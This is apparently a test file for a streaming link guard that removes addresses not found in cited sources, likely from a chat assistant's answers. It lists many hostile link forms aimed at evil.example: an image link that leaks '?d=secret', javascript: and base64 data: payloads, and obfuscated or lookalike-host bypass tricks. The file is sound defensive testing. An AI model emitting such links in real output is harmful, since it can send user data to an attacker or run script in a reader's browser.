import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createLinkGuard } from '../../src/guard/link-guard.js';
import { listHosts } from '../../src/guard/listed-hosts.js';
import { sampleSource } from '../support/sample-source.js';

const SOURCES = [
  sampleSource(1, 'Track it at https://track.shop.example/parcels, or write to www.help.example.'),
  sampleSource(2, '详情见 shop.example 网站。'),
];

function guarded(pieces: readonly string[]): { text: string; removed: number } {
  const guard = createLinkGuard(listHosts(SOURCES));
  const text = pieces.map((piece) => guard.push(piece)).join('') + guard.finish();
  return { text, removed: guard.removed };
}

const LISTED = [
  'See https://track.shop.example/parcels?id=1.',
  '见https://shop.example/退货，谢谢。',
  '[track](https://track.shop.example/parcels "Track") it [1].',
  '**www.help.example** has more [2](see above).',
  'if a < b then c > d; x[0] = y // not a link',
  'Ratio 3:2, 10:30, see: this.',
];

const UNLISTED = [
  'https://evil.example/x?q=1',
  'HTTPS://EVIL.example',
  'http:evil.example',
  'https:/\\evil.example',
  'https:\\\\evil.example',
  '//evil.example/pixel.png',
  'www.evil.example',
  'ftp://evil.example/a',
  'https://track.shop.example@evil.example/',
  'https://track.shop.example.evil.example/',
  'https://track.shop.example:x@evil.example',
  'https://shop.example。evil.example/a',
  'https://shop.example例.evil.example/a',
  '[click](https://evil.example)',
  '![p](https://evil.example/p.png?d=secret)',
  '[![p](https://evil.example/a)](https://evil.example/b)',
  '[click]( <https://evil.example> "t")',
  '[click](&#104;ttps:&#47;/evil.example)',
  '[click](javascript:alert(1))',
  'data:text/html;base64,PHNjcmlwdD4=',
  '<img src="https://evil.example/a.png">',
  '<a href=//evil.example>x</a>',
  '<https://evil.example>',
  '[x]: https://evil.example/a "t"',
  'custom+app://evil.example/a',
  '点这里：https://evil.example/领取',
];

describe('The link guard', () => {
  it.each(LISTED)('leaves %s', (text) => {
    // A citation with a remark behind it looks like a link to nowhere.
    expect(guarded([text]).text).toBe(text.replace('](see above)', ']'));
  });

  it.each(UNLISTED)('takes out %s, wherever the stream is cut', (attack) => {
    const text = `\n${attack} tail.`;
    for (let cut = 0; cut <= text.length; cut += 1) {
      const { text: shown, removed } = guarded([text.slice(0, cut), text.slice(cut)]);
      expect(shown, `cut at ${cut}`).not.toMatch(/evil|alert\(1|PHNjcmlwdD4/i);
      expect(shown).toContain('tail.');
      expect(removed).toBeGreaterThan(0);
    }
    const letters = guarded([...text]).text;
    expect(letters).not.toMatch(/evil|alert\(1|PHNjcmlwdD4/i);
  });

  it('shows no unlisted address however links are mixed and the stream is cut', () => {
    const parts = fc.constantFrom(
      ...UNLISTED,
      ...LISTED,
      ' ',
      '\n',
      '[',
      ']',
      '(',
      ')',
      '<',
      '!',
      'h',
      '：',
      '字',
    );
    fc.assert(
      fc.property(
        fc.array(parts, { maxLength: 8 }),
        fc.infiniteStream(fc.integer({ min: 1, max: 9 })),
        (words, sizes) => {
          // Glued to a listed address, anything is a part of its path.
          const text = words.join(' ');
          const pieces: string[] = [];
          for (let at = 0; at < text.length; ) {
            const size = sizes.next().value as number;
            pieces.push(text.slice(at, at + size));
            at += size;
          }
          expect(guarded(pieces).text).not.toMatch(/(?:https?:|(?<![\w/])\/)\/evil/i);
        },
      ),
      { numRuns: 300, seed: 7 },
    );
  });

  it('holds ordinary words back for no longer than their last letters', () => {
    const guard = createLinkGuard(() => false);
    expect(guard.push('您有30天时间退货')).toBe('您有30天时间退货');
    expect(guard.push('You have 30 days')).toBe('You have 30 days');
    expect(guard.push(' to see htt')).toBe(' to see ');
    expect(guard.push('er')).toBe('htter');
  });

  it('takes time in proportion to the text', () => {
    const texts = ['](', '<a ', '[x]:', 'h', '//', 'a:/', 'www.', '。a'].map((text) => text.repeat(20_000));
    for (const text of texts) guarded([text]);
    for (const text of texts) guarded(text.match(/.{1,40}/gs) ?? []);
  });
});
